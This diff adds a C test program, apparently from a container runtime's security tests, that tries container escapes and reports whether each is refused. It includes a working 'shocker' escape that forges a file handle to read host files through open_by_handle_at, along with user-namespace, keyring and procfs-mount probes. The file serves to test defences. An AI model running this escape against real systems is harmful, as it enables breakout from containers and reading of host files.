@@ -1,0 +1,70 @@
+/* What an attacker inside a container would try (weft's security tests; built static by the
+ * harness and copied into a test rootfs). Each command prints what happened and exits 0 if the
+ * attack got through, 1 if it was refused, 2 on a usage error.
+ *
+ *   open-by-handle PATH   open the root of the filesystem /etc/hostname lives on (the host's) by
+ *                         a forged handle (ext4 root: inode 2, generation 0), then read PATH from
+ *                         there: the "shocker" escape (needs CAP_DAC_READ_SEARCH)
+ *   unshare-user          unshare(CLONE_NEWUSER): all capabilities back, inside a new namespace
+ *   keyctl                the kernel keyring (not namespaced)
+ *   mount-proc DIR        mount a fresh procfs on DIR
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static int refused(const char *what) {
+    printf("refused: %s: %s\n", what, strerror(errno));
+    return 1;
+}
+
+static int open_by_handle(const char *path) {
+    struct {
+        struct file_handle fh;
+        unsigned int ino_gen[2];
+    } h;
+    int mfd = open("/etc/hostname", O_RDONLY);
+    if (mfd < 0) return refused("open /etc/hostname");
+    h.fh.handle_bytes = 8;
+    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
+    h.ino_gen[0] = 2;
+    h.ino_gen[1] = 0;
+    int root = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
+    if (root < 0) return refused("open_by_handle_at");
+    int fd = openat(root, path, O_RDONLY);
+    if (fd < 0) return refused("openat");
+    char buf[256];
+    ssize_t n = read(fd, buf, sizeof buf - 1);
+    if (n < 0) return refused("read");
+    buf[n] = 0;
+    printf("read outside the rootfs: %s\n", buf);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2) return 2;
+    if (!strcmp(argv[1], "open-by-handle") && argc == 3) return open_by_handle(argv[2]);
+    if (!strcmp(argv[1], "unshare-user")) {
+        if (unshare(CLONE_NEWUSER) < 0) return refused("unshare(CLONE_NEWUSER)");
+        printf("in a new user namespace\n");
+        return 0;
+    }
+    if (!strcmp(argv[1], "keyctl")) {
+        /* KEYCTL_GET_KEYRING_ID of the session keyring, creating it */
+        if (syscall(SYS_keyctl, 0, -3, 1) < 0) return refused("keyctl");
+        printf("keyring reached\n");
+        return 0;
+    }
+    if (!strcmp(argv[1], "mount-proc") && argc == 3) {
+        if (mount("proc", argv[2], "proc", 0, NULL) < 0) return refused("mount proc");
+        printf("mounted\n");
+        return 0;
+    }
+    return 2;
+}
